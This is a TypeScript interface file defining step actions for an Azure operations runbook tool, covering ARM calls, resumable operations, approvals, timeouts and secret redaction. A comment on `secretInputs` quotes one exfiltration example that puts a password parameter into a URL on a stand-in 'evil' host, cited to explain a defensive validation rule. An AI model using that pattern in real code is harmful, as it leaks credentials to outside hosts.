/**
 * The contract every step action fulfils. One registry (`registry.ts`) holds them; `plan`, the docs and the
 * validator read these declarations, so what an action needs and does is written once.
 * Actions never import oclif, listr2 or inquirer; Azure SDK packages are imported lazily inside `run`.
 */
import type {z} from 'zod'
import type {Catalog, Environment} from '../catalog/schema.js'
import {parseDuration} from '../support/duration.js'

/** One ARM request an action makes, shown by `plan` so a human can take over by hand. */
export interface ArmCall {
  method: 'GET' | 'PUT' | 'PATCH' | 'POST' | 'DELETE'
  /** Path with resolved names where known, e.g. /subscriptions/…/flexibleServers/pg-orders. */
  path: string
  /** True when ARM answers 201/202 and the action polls an operation monitor. */
  longRunning?: boolean
  note?: string
}

/** What `plan` knows about a step before it runs: inputs may still hold `<steps.x.outputs.y>` placeholders. */
export interface PlanContext {
  environment: Environment
  environmentName: string
  /** Resolve a component key or resource name to its ARM id parts, when it can be known before the run. */
  resourceId(kind: 'postgres' | 'redis' | 'webapp' | 'storage' | 'keyvault', nameOrKey: string): string
  /** When the plan is made (or `--at`): times an az line needs (a SAS expiry, "now") are rendered from it. */
  now?: Date
}

/** A long-running Azure operation, journaled when it starts so `opsbook resume` can re-attach instead of re-issuing. */
export interface TrackedOperation {
  /** What was asked, e.g. "postgres.restore pg-orders → pg-orders-drill-1a2b". */
  description: string
  method: ArmCall['method']
  /** The resource URL the request went to. */
  resourceUrl: string
  /** Azure-AsyncOperation or Location monitor URL, when ARM gave one. */
  monitorUrl?: string
  /** Anything the action needs to finish the step after a resume (names, start time …). No secrets. */
  state?: Record<string, unknown>
}

export interface OperationTracker {
  /** Record that an operation started (journaled and flushed before this returns). */
  started(operation: TrackedOperation): Promise<void>
  /** On `resume`: the operation this step had in flight when the previous process died, if any. */
  inFlight(): TrackedOperation | undefined
  /**
   * On `resume`: the operation an earlier process started for this step before Ctrl-C stopped waiting for it. Not
   * re-attached by default (teardown may have undone it); an action whose change cannot be undone and cannot be
   * issued twice (a replica promotion) re-attaches to it when it finds its change already made. Optional for older hosts.
   */
  interrupted?(): TrackedOperation | undefined
  /**
   * Every operation any step of this run started so far (teardown uses it to wait for a create that was still in
   * flight when the run failed or was interrupted, before deleting what it creates). Optional for older hosts.
   */
  startedInRun?(): Array<{step: string; operation: TrackedOperation}>
  /**
   * Teardown waited for this operation (of a step that did not finish) and undid or removed what it did: it is not
   * reported as left behind. Optional for older hosts.
   */
  settled?(operation: TrackedOperation): void
}

export interface ApprovalRequest {
  step: string
  message: string
  environment: string
  production: boolean
}

/** Result of an approval; `by` says who or what approved it (user name, `--yes`, `--approve`). */
export interface ApprovalDecision {
  approved: boolean
  by: string
  via: 'prompt' | 'flag' | 'yes'
  reason?: string
}

export interface Approver {
  approve(request: ApprovalRequest, signal: AbortSignal): Promise<ApprovalDecision>
}

/** Everything an action can use while it runs. Built by the engine for each attempt. */
export interface ActionContext {
  runId: string
  stepId: string
  /** 1-based attempt number (retries increase it). */
  attempt: number
  /** Aborted on timeout or Ctrl-C; actions pass it to SDK calls and waits. */
  signal: AbortSignal
  /**
   * Aborted once the run has ended (run.finished written): nothing can be journaled any more, so what waits on past
   * `signal` (a request's first answer, runTracked's grace) stops too — else it held the process after its last line.
   */
  ended?: AbortSignal
  /** A progress line: shown by the reporter and journaled. */
  log(message: string): void
  environmentName: string
  environment: Environment
  catalog: Catalog
  /** Values to redact from every output, journal line and evidence file (SAS tokens, keys…). */
  secret(value: string): void
  /**
   * `text` redacted (the run's secrets, credential shapes), then cut to `max` characters. Text from outside (a response
   * body) must be cut this way, never cut first: a cut through a secret leaves a piece no redaction recognises (a
   * secret echoed at a body's 190th character left its first 10 in http.check's message). Absent in bare test
   * contexts, where previewText only cuts.
   */
  preview?(text: string, max: number): string
  approver: Approver
  operations: OperationTracker
  /** Azure (or emulator) clients. Typed `unknown` here so the engine does not depend on src/azure. */
  services: unknown
  /** The clock; tests and drills measure RTO with it. */
  now(): Date
}

/** `text` cut to `max` characters for an output or message, redacted before the cut (ActionContext.preview). */
export function previewText(context: Pick<ActionContext, 'preview'>, text: string, max: number): string {
  return context.preview ? context.preview(text, max) : text.slice(0, max)
}

/** A step action: `postgres.restore`, `core.wait`, … */
export interface ActionDefinition<I = any, O = any> {
  /** `<service>.<verb>`, e.g. postgres.restore. */
  name: string
  /** One line for tables and `plan`. */
  summary: string
  /** Longer text for the generated reference. */
  description?: string
  /** zod object schema of `with:`; its keys are the only accepted inputs. `parse` is typed to what `run` takes. */
  input: {parse(value: unknown): I} & z.ZodObject<any>
  /** zod schema of the outputs later steps can read as `steps.<id>.outputs.*`. */
  output: z.ZodType<O>
  /** Whether the action changes anything in Azure. Non-changing actions need no approval and are safe in `plan`. */
  changes: boolean
  /**
   * How a changing action relates to ARM writes, for Azure's Activity Log as witness (`evidence verify`, evidence/witness.ts):
   * - `always` (the default): every successful run writes through ARM; a resumed step with no write is not witnessed;
   * - `when-needed`: idempotent, may find nothing to do (a teardown whose target is gone, a reset with nothing pending);
   *   when it writes nothing it says what it found (azure/arm-writes.ts `foundWithoutWrite`) and verify checks that
   *   against the Activity Log;
   * - `data-plane`: changes data planes only (rows, keys, blobs: no ARM write), nothing for the Activity Log to witness.
   */
  armWrites?: 'always' | 'when-needed' | 'data-plane'
  /**
   * How long a step of this action may run when the runbook sets no `timeout:` (ISO-8601), so that no wait on a hung
   * Azure operation is unbounded (issue 16, item 5). Every changing action declares one (test/integration/hung-operations.test.ts
   * checks the registry): a generous value from what the operation takes in
   * Azure, with the Microsoft page cited beside it where a duration is documented. `timeout:` overrides it; past it the
   * step fails timed out exactly as with `timeout:` (an operation still running: exit 3, resume waits for it).
   */
  defaultTimeout?: string
  /** Azure RBAC actions the caller needs, e.g. Microsoft.DBforPostgreSQL/flexibleServers/write. */
  permissions: string[]
  /**
   * The part of `permissions` a call needs with these inputs, when that is less (drill.teardown of a cache deletes a
   * blob and needs no PostgreSQL right): what `plan` lists and preflight asks of Azure. Inputs may be placeholders;
   * when it cannot tell (or throws), all of `permissions`.
   */
  permissionsFor?(input: I, plan: PlanContext): string[] | undefined
  /** The `az` command(s) a human would run instead. Inputs may be placeholders. */
  az?(input: I, plan: PlanContext): string[]
  /** ARM requests this action makes, for `plan`. */
  arm?(input: I, plan: PlanContext): ArmCall[]
  /**
   * The ARM resource(s) a `when-needed` action acts on, known from its inputs before it runs (the scratch copy a
   * teardown deletes, the router a fail-back puts back), with the run's id. The run journals them in its first plan
   * (run.started `steps[].targets`, bound into the hash chain), so evidence verify's Activity Log witness can require
   * that what a resumed step says it found (`gone`, `not-switched`) is about its own target and not another resource
   * of the same kind (evidence/witness.ts). Inputs may be placeholders: a target containing `<` is not journaled.
   */
  targets?(input: I, plan: PlanContext & {runId: string}): string[]
  /**
   * Checked before a run starts (`run` and `plan`, exit 2, nothing changed): why the step cannot succeed from what the
   * catalog declares — e.g. a tier that cannot do it (src/azure/capabilities.ts) — or undefined. Inputs may be placeholders.
   */
  preflight?(input: I, plan: PlanContext): PreflightRefusal | undefined
  /**
   * Input names whose values are secret: redacted everywhere, and sent only where the input says (a password to the
   * server it logs in to). With `localInputs`, the only inputs a secret may reach: every other input goes to Azure or
   * another host (a URL, a query, a resource name), where a secret would leave the run's redaction behind —
   * `http.check url: https://evil/${{ params.pw }}` sent it out in the request line (issue 16). A secret param read in
   * another input is invalid input (`secret-sent-out`, exit 2, file:line:col); a value holding a registered secret
   * that reaches one at run time fails its step before the action runs.
   */
  secretInputs?: string[]
  /** Input names whose values never leave this machine (a message shown redacted, a boolean): a secret may be read there. */
  localInputs?: string[]
  /**
   * Input names whose value is a PostgreSQL read replica the step changes (postgres.promoteReplica's `replica`):
   * `plan` shows which replica and whose, a missing param lists the catalog's replicas, and the run leases the
   * primary's component (runbooks/replica-owners.ts).
   */
  replicaInputs?: string[]
  run(input: I, context: ActionContext): Promise<O>
}

/** Helper that keeps input/output types tied to the schemas. */
export function defineAction<S extends z.ZodObject<any>, O extends z.ZodType>(
  action: Omit<ActionDefinition<z.infer<S>, z.infer<O>>, 'input' | 'output'> & {input: S; output: O},
): ActionDefinition<z.infer<S>, z.infer<O>> {
  return action as ActionDefinition<z.infer<S>, z.infer<O>>
}

/** Why a step cannot succeed with the catalog as it is, and the catalog field that says so (for file:line:col). */
export interface PreflightRefusal {
  message: string
  /** Component key in the environment, and the field of it that decides (e.g. `sku`, `planSku`, `replicas`). */
  component?: string
  field?: string
}

/**
 * The bound of one step: its own `timeout:` (ms), else its action's declared default. `fromDefault` says which, for
 * `plan` and the timed-out message.
 */
export function stepBound(timeoutMs: number | undefined, action: Pick<ActionDefinition, 'defaultTimeout'> | undefined): {ms: number; fromDefault: boolean} | undefined {
  if (timeoutMs !== undefined) return {ms: timeoutMs, fromDefault: false}
  const ms = action?.defaultTimeout === undefined ? undefined : parseDuration(action.defaultTimeout)
  return ms === undefined ? undefined : {ms, fromDefault: true}
}
